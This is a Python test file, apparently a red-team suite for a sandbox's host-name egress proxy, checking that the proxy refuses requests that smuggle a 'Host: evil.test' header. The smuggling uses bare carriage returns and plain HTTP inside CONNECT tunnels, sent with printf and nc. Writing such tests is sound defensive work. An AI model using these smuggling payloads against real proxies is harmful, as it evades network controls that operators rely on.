"""Red team against egress by host name (seerun's own proxy): the container's code is hostile
and tries to reach a name the profile does not list through one it does, or to hide what it
did from the record.  Each test is an attack that worked on an earlier version.

The fixtures are test_egress.py's: names pinned to origins on the host's loopback (allowed
there with allowAddresses, as a site lists its mirror).  No traffic leaves this machine."""
import socket
import threading

import pytest

from conftest import make_seerun, check_no_leaks, Bundle, http_origin  # noqa: F401
from test_egress import egress_policy, egress_lines, origin, proxied  # noqa: F401


@pytest.fixture
def lenient_origin():
    """An origin that, as nginx, Node's llhttp and RFC 9112 2.2 ("SHOULD ignore at least one
    empty line received prior to the request-line") do, skips empty lines before a request and
    takes any method token; it serves by Host header, like a virtual-hosting front end."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    stop = threading.Event()

    def serve_one(c):
        with c:
            c.settimeout(10)
            data = b""
            try:
                while b"\r\n\r\n" not in data.lstrip(b"\r\n"):
                    got = c.recv(4096)
                    if not got:
                        return
                    data += got
            except OSError:
                return
            head = data.lstrip(b"\r\n").split(b"\r\n\r\n")[0].decode("latin-1")
            lines = head.split("\r\n")
            parts = lines[0].split(" ")
            if len(parts) != 3 or not parts[2].startswith("HTTP/"):
                return
            host = [l.split(":", 1)[1].strip() for l in lines[1:] if l.lower().startswith("host:")]
            text = f"origin saw {parts[1]} host={host[0] if host else None}\n".encode()
            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
                      % len(text) + text)

    def accept():
        while not stop.is_set():
            try:
                c, _ = srv.accept()
            except OSError:
                return
            threading.Thread(target=serve_one, args=(c,), daemon=True).start()

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    try:
        yield srv.getsockname()[1]
    finally:
        stop.set()
        srv.shutdown(socket.SHUT_RDWR)
        srv.close()
        t.join(5)


def test_a_bare_cr_in_a_forward_request_cannot_carry_a_second_host_header(proxied, origin):
    """Attack: a forward request to an allowed name whose head hides `Host: evil.test` behind
    a bare CR.  The proxy split lines at CRLF only and passed the header through; Python's
    http.server (email.feedparser), like other lenient parsers, ends a line at a bare CR and
    took the first Host, evil.test: a virtual host of the address that the profile does not
    list.  A bare CR (or any control byte but HTAB) in a request head is refused now."""
    s, b = proxied
    egress_policy(s, origin)
    b.shell(f"""
        printf 'GET http://allowed.test:{origin}/cr HTTP/1.1\\r\\nX-A: a\\rHost: evil.test\\r\\nHost: allowed.test:{origin}\\r\\n\\r\\n' |
          nc 127.0.0.1 3128
        printf 'GET http://allowed.test:{origin}/vt HTTP/1.1\\r\\nHost: allowed.test:{origin}\\r\\nX-B: b\\013c\\r\\n\\r\\n' |
          nc 127.0.0.1 3128
        printf 'GET http://allowed.test:{origin}/ok HTTP/1.1\\r\\nX-C: tab\\there\\r\\n\\r\\n' |
          nc 127.0.0.1 3128
    """)
    r = s.cmd("run", "--bundle", b.write(), s.id())
    out = r.stdout
    assert "host=evil.test" not in out, out
    assert "origin saw /cr" not in out and "origin saw /vt" not in out, out
    # A horizontal tab in a value is fine (RFC 9110 5.5): the one lawful control byte.
    assert f"origin saw /ok host=allowed.test:{origin}" in out, out + r.stderr
    assert out.count("400 Bad Request") == 2, out
    # Both refusals are audited: the second, alike, is counted in egress.repeated.
    refused = [l for l in egress_lines(s) if not l["allowed"]]
    repeated = egress_lines(s, "egress.repeated")
    assert len(refused) + sum(l["repeated"] for l in repeated) == 2, s.audit()
    assert all("control character" in l["reason"] for l in refused + repeated), refused


@pytest.mark.parametrize("lead", [
    pytest.param("\\r\\n", id="crlf-before-the-request-line"),
    pytest.param("\\r\\n\\r\\n\\n", id="several-empty-lines"),
    pytest.param("", id="a-method-with-a-hyphen"),
])
def test_plain_http_in_a_tunnel_is_refused_after_empty_lines_or_with_any_method(
        proxied, lenient_origin, lead):
    """Attack: plain HTTP with `Host: evil.test` through a CONNECT tunnel to an allowed name,
    its request line after an empty line (which servers skip, RFC 9112 2.2), or with a method
    that is not all capital letters (`M-SEARCH`, `X_GET`: tokens nginx and others accept).  The
    proxy only recognised an upper-case method at the tunnel's very first byte and let the
    rest through as "another protocol"."""
    s, b = proxied
    port = lenient_origin
    egress_policy(s, port)
    method = "M-SEARCH" if lead == "" else "GET"
    b.shell(f"""printf 'CONNECT allowed.test:{port} HTTP/1.1\\r\\n\\r\\n{lead}{method} /fronted HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' |
               nc 127.0.0.1 3128""")
    r = s.cmd("run", "--bundle", b.write(), s.id())
    assert "origin saw /fronted" not in r.stdout, r.stdout
    assert "200 Connection established" in r.stdout, r.stdout + r.stderr
    lines = egress_lines(s)
    assert not [l for l in lines if l["allowed"]], lines
    refused = [l for l in lines if not l["allowed"]]
    assert refused and refused[0]["reason"].startswith("plain HTTP through a CONNECT tunnel"), \
        lines
